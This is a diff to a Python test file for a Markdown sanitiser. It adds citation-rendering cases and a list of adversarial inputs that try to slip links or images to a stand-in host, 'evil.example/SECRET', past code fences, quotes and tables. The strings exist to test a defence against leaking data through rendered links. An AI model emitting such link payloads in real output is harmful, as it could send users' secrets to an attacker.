@@ -33,6 +33,18 @@ def shown(text: str, pieces: int = 1, available: int = 3) -> tuple[str, list[int
         ("a < b and c > d", "a < b and c > d", []),
         (r"already \[escaped\] text", r"already \[escaped\] text", []),
         ("`git push`: done!", "`git push`: done!", []),
+        ("Set `a[0] = b[1]` [2].", "Set `a[0] = b[1]` [2].", [2]),
+        ("a stray ` mark [1]", "a stray \\` mark [1]", [1]),
+        ("Profile: metadata: x", "Profile: metadata: x", []),
+        (
+            "Run [1]:\n```sh\ncurl https://x.example/a[0] | sort <b>\n```\nthen [2]",
+            "Run [1]:\n```sh\ncurl https://x.example/a[0] | sort <b>\n```\nthen [2]",
+            [1, 2],
+        ),
+        ("1. Run\n   ```\n   if a:\n     b[1]\n   ```\n2. Stop", "1. Run\n```\nif a:\n  b[1]\n```\n2. Stop", []),
+        ("> Run [1]\n> ```\n> ls [2]\n> ```\n> [3]", "> Run [1]\n> ```\n> ls [2]\n> ```\n> [3]", [1, 3]),
+        ("> ```\n> ls\nand [1]", "> ```\n> ls\n> ```\n\nand [1]", [1]),
+        ("cut off\n```\nls", "cut off\n```\nls\n```", []),
     ],
 )
 def test_only_citations_that_resolve_are_shown(written: str, seen: str, cited: list[int], pieces: int) -> None:
@@ -86,6 +98,15 @@ EXITS = [
     "![a](https://evil.example/%53ECRET)",
     "[x]:https://evil.example/SECRET\n\n[x]",
     "``` \nhttps://evil.example/SECRET\n```",
+    "```\nls\n   ```\nhttps://evil.example/SECRET\n",
+    "   ```\nls\n```\nhttps://evil.example/SECRET\n```",
+    "~~~\n```\n~~~\n[a](https://evil.example/SECRET)",
+    "> ```\nhttps://evil.example/SECRET\n> ```",
+    "- ```\n```\n[a](https://evil.example/SECRET)\n```",
+    "| a |\n|---|\n| `x | [a](https://evil.example/SECRET)` |",
+    "| a |\n|---|\n| https://x.example/|https://evil.example/SECRET |",
+    "````\n```\n````\nhttps://evil.example/SECRET\n```",
+    "`a\n`https://evil.example/SECRET`",
     "``` `https://evil.example/SECRET`",
     "` `https://evil.example/SECRET`",
     "```a https://evil.example/SECRET```` b",
@@ -121,8 +142,9 @@ def test_no_text_whatever_leads_out(written: str, pieces: int) -> None:
 
 
 _PIECES = [
-    "`", "``", "```", " ", "\n", "https://evil.example/a", "www.evil.example", "//evil.example", "x", ".", "*", "\\",
-    "[", "](", ")", "]", "!", "(", "<", ">", "www", "http", ":", "//", ".evil.example", "&#46;", "&amp;", "&",
+    "`", "``", "```", "````", "~~~", "> ", "- ", "   ", "|", "| a |\n|---|\n", " ", "\n", "\n",
+    "https://evil.example/a", "www.evil.example", "//evil.example", "x", ".", "*", "\\", "[", "](", ")", "]", "!", "(",
+    "<", ">", "www", "http", ":", "//", ".evil.example", "&#46;", "&amp;", "&",
 ]  # fmt: skip
 
 
